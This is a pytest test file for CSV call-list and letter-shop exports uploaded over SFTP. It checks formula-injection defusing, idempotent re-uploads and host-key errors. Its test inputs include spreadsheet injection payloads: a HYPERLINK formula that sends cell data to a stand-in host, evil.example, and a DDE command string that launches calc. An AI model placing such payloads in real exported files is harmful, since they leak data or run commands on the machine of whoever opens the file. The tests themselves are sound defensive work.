"""Call-list and letter-shop exports: CSV safe against formula injection, uploaded to a real SFTP server."""

from __future__ import annotations

import csv
import io
import socket
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from outbox_runs import FrozenRun
from sqlalchemy import text
from sqlalchemy.engine import Engine

from campaign_lib.errors import PermanentDeliveryError, TransientDeliveryError
from campaign_lib.local_servers.sftp import LocalSftpServer, generate_key
from connectors.file_export import (
    csv_bytes,
    defuse_cell,
    export_call_list,
    export_letter_shop_list,
    message_keys,
)

PASSWORD = "export-Pw-1"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        pytest.param("=1+1", "'=1+1", id="equals"),
        pytest.param(
            '=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")', id="hyperlink"
        ),
        pytest.param("+SUM(A1:A9)", "'+SUM(A1:A9)", id="plus-formula"),
        pytest.param("-2+3", "'-2+3", id="minus"),
        pytest.param("@SUM(1)", "'@SUM(1)", id="at"),
        pytest.param("\t=1", "'\t=1", id="tab"),
        pytest.param("\r=1", "'\r=1", id="carriage-return"),
        pytest.param("+4915112345678", "+4915112345678", id="e164-kept-for-diallers"),
        pytest.param("+49 151 1234", "'+49 151 1234", id="not-e164-defused"),
        pytest.param("Müller-Lüdenscheidt", "Müller-Lüdenscheidt", id="hyphen-inside"),
        pytest.param("a=b", "a=b", id="equals-inside"),
        pytest.param(None, "", id="none"),
        pytest.param(42, "42", id="number"),
    ],
)
def test_defuse_cell(value: object, cell: str) -> None:
    assert defuse_cell(value) == cell


@pytest.mark.parametrize(("delimiter", "bom"), [(";", True), (",", False)])
def test_csv_bytes_dialect_and_quoting(delimiter: str, bom: bool) -> None:
    rows = [
        {"message_key": "a" * 32, "last_name": 'O"Brien; Jr.', "first_name": "Line\nbreak"},
        {"message_key": "b" * 32, "last_name": "=cmd|' /C calc'!A0", "first_name": "Ånne"},
    ]
    data = csv_bytes(("message_key", "first_name", "last_name"), rows, delimiter=delimiter, bom=bom)

    assert data.startswith(b"\xef\xbb\xbf") is bom
    assert data.split(b"\r\n")[0].decode("utf-8-sig") == delimiter.join(
        ("message_key", "first_name", "last_name")
    )
    parsed = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
    assert parsed[0]["last_name"] == 'O"Brien; Jr.' and parsed[0]["first_name"] == "Line\nbreak"
    assert parsed[1]["last_name"] == "'=cmd|' /C calc'!A0" and parsed[1]["first_name"] == "Ånne"
    assert message_keys(data, delimiter=delimiter) == ["a" * 32, "b" * 32]


@pytest.fixture
def sftp_root(tmp_path: Path) -> Path:
    root = tmp_path / "sftp"
    root.mkdir()
    return root


@pytest.fixture
def sftp_server(sftp_root: Path) -> Iterator[LocalSftpServer]:
    with LocalSftpServer(sftp_root, username="export", password=PASSWORD) as server:
        yield server


@pytest.fixture
def export_conn(sftp_server: LocalSftpServer) -> dict[str, Any]:
    return {
        "conn_type": "sftp",
        "host": "127.0.0.1",
        "port": sftp_server.port,
        "login": "export",
        "password": PASSWORD,
        "extra": {"known_hosts": sftp_server.known_hosts_line(), "timeout": 5},
    }


HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Gewinn")', "Anna;Maria", 'O"Brien', "Zoë"]


@pytest.fixture
def export_run(frozen_run: Callable[..., FrozenRun], clean_db: Engine) -> FrozenRun:
    """A frozen run whose six contacts each have a phone and a post message; the first four carry
    hostile names, the fifth opted out of calls, the sixth has no postal address."""
    run = frozen_run(sms=6)
    contacts = run.contacts["sms"]
    with clean_db.begin() as conn:
        for contact_id, name in zip(contacts, HOSTILE_NAMES, strict=False):
            conn.execute(
                text("update core.contact set last_name = :n where contact_id = :c"),
                {"n": name, "c": contact_id},
            )
        conn.execute(
            text(
                "insert into campaign.suppression (contact_id, channel, reason, source) "
                "values (:c, 'phone', 'unsubscribe', 'test')"
            ),
            {"c": contacts[4]},
        )
        for contact_id in contacts[:5]:
            conn.execute(
                text(
                    """
                    with location as (
                        insert into core.location (account_id, street, postal_code, city, country_code)
                        select account_id, '+Seestraße 1', '79' || lpad(cast(:c as text), 3, '0'), 'Rust', 'DE'
                        from core.contact where contact_id = :c
                        returning location_id
                    )
                    update core.contact set location_id = (select location_id from location) where contact_id = :c
                    """
                ),
                {"c": contact_id},
            )
        conn.execute(
            text(
                "insert into campaign.message (message_key, campaign_run_id, contact_id, channel, cell, batch_no) "
                "select md5(:run || ':' || c || ':' || ch), :run, c, cast(ch as core.channel), 'main', 0 "
                "from unnest(cast(:ids as bigint[])) c cross join unnest(array['phone', 'post']) ch"
            ),
            {"run": run.campaign_run_id, "ids": contacts},
        )
    return run


def _statuses(engine: Engine, run: FrozenRun, channel: str) -> dict[int, tuple]:
    with engine.connect() as conn:
        rows = conn.execute(
            text(
                "select contact_id, status::text, provider_message_id, reason, address from campaign.message "
                "where campaign_run_id = :r and channel = cast(:ch as core.channel)"
            ),
            {"r": run.campaign_run_id, "ch": channel},
        ).all()
    return {row[0]: tuple(row[1:]) for row in rows}


def _history(engine: Engine, run: FrozenRun, channel: str) -> list[int]:
    with engine.connect() as conn:
        return sorted(
            conn.execute(
                text(
                    "select contact_id from campaign.contact_history where campaign_run_id = :r "
                    "and channel = cast(:ch as core.channel)"
                ),
                {"r": run.campaign_run_id, "ch": channel},
            ).scalars()
        )


def test_call_list_is_uploaded_defused_and_marked_sent(
    clean_db: Engine, export_run: FrozenRun, export_conn: dict[str, Any], sftp_root: Path
) -> None:
    contacts = export_run.contacts["sms"]
    result = export_call_list(clean_db, export_run.campaign_run_id, export_conn)

    assert (
        result.remote_path
        == f"/outbound/call_list_water_park_for_hotel_guests_run{export_run.campaign_run_id}.csv"
    )
    assert (result.rows, result.skipped, result.uploaded) == (5, 1, True)
    local = sftp_root / result.remote_path.lstrip("/")
    assert sorted(p.name for p in local.parent.iterdir()) == [local.name]  # no .part left
    data = local.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [int(r["contact_id"]) for r in rows] == [*contacts[:4], contacts[5]]
    assert [r["last_name"] for r in rows[:4]] == ["'" + HOSTILE_NAMES[0], *HOSTILE_NAMES[1:]]
    assert all(r["phone"].startswith("+49151") for r in rows)

    statuses = _statuses(clean_db, export_run, "phone")
    for contact_id in [*contacts[:4], contacts[5]]:
        status, provider_id, reason, address = statuses[contact_id]
        assert (status, provider_id, reason) == ("sent", result.remote_path, None)
        assert address.startswith("+49151")
    assert statuses[contacts[4]][0::2] == ("skipped", "not_eligible_at_export")
    assert _history(clean_db, export_run, "phone") == sorted([*contacts[:4], contacts[5]])


def test_rerun_uploads_nothing_twice(
    clean_db: Engine, export_run: FrozenRun, export_conn: dict[str, Any], sftp_root: Path
) -> None:
    first = export_call_list(clean_db, export_run.campaign_run_id, export_conn)
    local = sftp_root / first.remote_path.lstrip("/")
    before = (local.read_bytes(), local.stat().st_mtime_ns)

    again = export_call_list(clean_db, export_run.campaign_run_id, export_conn)

    assert (again.rows, again.uploaded, again.sha256) == (first.rows, False, first.sha256)
    assert (local.read_bytes(), local.stat().st_mtime_ns) == before
    assert len(_history(clean_db, export_run, "phone")) == 5


def test_crash_after_upload_marks_exactly_what_the_file_holds(
    clean_db: Engine, export_run: FrozenRun, export_conn: dict[str, Any], sftp_root: Path
) -> None:
    contacts = export_run.contacts["sms"]
    first = export_call_list(clean_db, export_run.campaign_run_id, export_conn)
    # As if the marking transaction never committed, and a person opted out in between.
    with clean_db.begin() as conn:
        conn.execute(
            text(
                "update campaign.message set status = 'pending', sent_at = null, provider_message_id = null "
                "where campaign_run_id = :r and channel = 'phone' and status = 'sent'"
            ),
            {"r": export_run.campaign_run_id},
        )
        conn.execute(
            text("delete from campaign.contact_history where campaign_run_id = :r"),
            {"r": export_run.campaign_run_id},
        )
        conn.execute(
            text("update core.contact set status = 'erased' where contact_id = :c"), {"c": contacts[0]}
        )

    again = export_call_list(clean_db, export_run.campaign_run_id, export_conn)

    assert (again.uploaded, again.sha256) == (False, first.sha256)
    statuses = _statuses(clean_db, export_run, "phone")
    # The erased person was in the file that went out: sent, as the file says, once each.
    assert [statuses[c][0] for c in (*contacts[:4], contacts[5])] == ["sent"] * 5
    assert statuses[contacts[4]][0] == "skipped"
    assert _history(clean_db, export_run, "phone") == sorted([*contacts[:4], contacts[5]])


def test_a_part_file_left_by_a_crash_is_replaced(
    clean_db: Engine, export_run: FrozenRun, export_conn: dict[str, Any], sftp_root: Path
) -> None:
    outbound = sftp_root / "outbound"
    outbound.mkdir()
    stale = outbound / f"call_list_water_park_for_hotel_guests_run{export_run.campaign_run_id}.csv.part"
    stale.write_bytes(b"half a fi")

    result = export_call_list(clean_db, export_run.campaign_run_id, export_conn)

    assert result.uploaded and not stale.exists()
    assert len(message_keys((outbound / stale.name.removesuffix(".part")).read_bytes())) == 5


def test_letter_shop_list_with_comma_and_no_bom(
    clean_db: Engine, export_run: FrozenRun, export_conn: dict[str, Any], sftp_root: Path
) -> None:
    contacts = export_run.contacts["sms"]
    conn = {
        **export_conn,
        "extra": {**export_conn["extra"], "delimiter": ",", "bom": False, "folder": "/letters"},
    }

    result = export_letter_shop_list(clean_db, export_run.campaign_run_id, conn)

    assert result.remote_path.startswith("/letters/letter_shop_")
    data = (sftp_root / result.remote_path.lstrip("/")).read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=","))
    # The opted-out-of-calls person still gets a letter; the one without an address does not.
    assert [int(r["contact_id"]) for r in rows] == contacts[:5]
    assert {r["street"] for r in rows} == {"'+Seestraße 1"}
    statuses = _statuses(clean_db, export_run, "post")
    assert statuses[contacts[5]][0] == "skipped"
    assert statuses[contacts[0]][3].startswith("+Seestraße 1, 79")


def test_unknown_host_key_is_permanent_and_leaves_messages_pending(
    clean_db: Engine, export_run: FrozenRun, export_conn: dict[str, Any], sftp_server: LocalSftpServer
) -> None:
    other = sftp_server.known_hosts_line(generate_key())
    conn = {**export_conn, "extra": {**export_conn["extra"], "known_hosts": other}}
    with pytest.raises(PermanentDeliveryError, match="host key"):
        export_call_list(clean_db, export_run.campaign_run_id, conn)
    assert {v[0] for v in _statuses(clean_db, export_run, "phone").values()} == {"pending"}


def test_server_down_is_transient(
    clean_db: Engine, export_run: FrozenRun, export_conn: dict[str, Any]
) -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    with pytest.raises(TransientDeliveryError):
        export_call_list(clean_db, export_run.campaign_run_id, {**export_conn, "port": port})
    assert _history(clean_db, export_run, "phone") == []
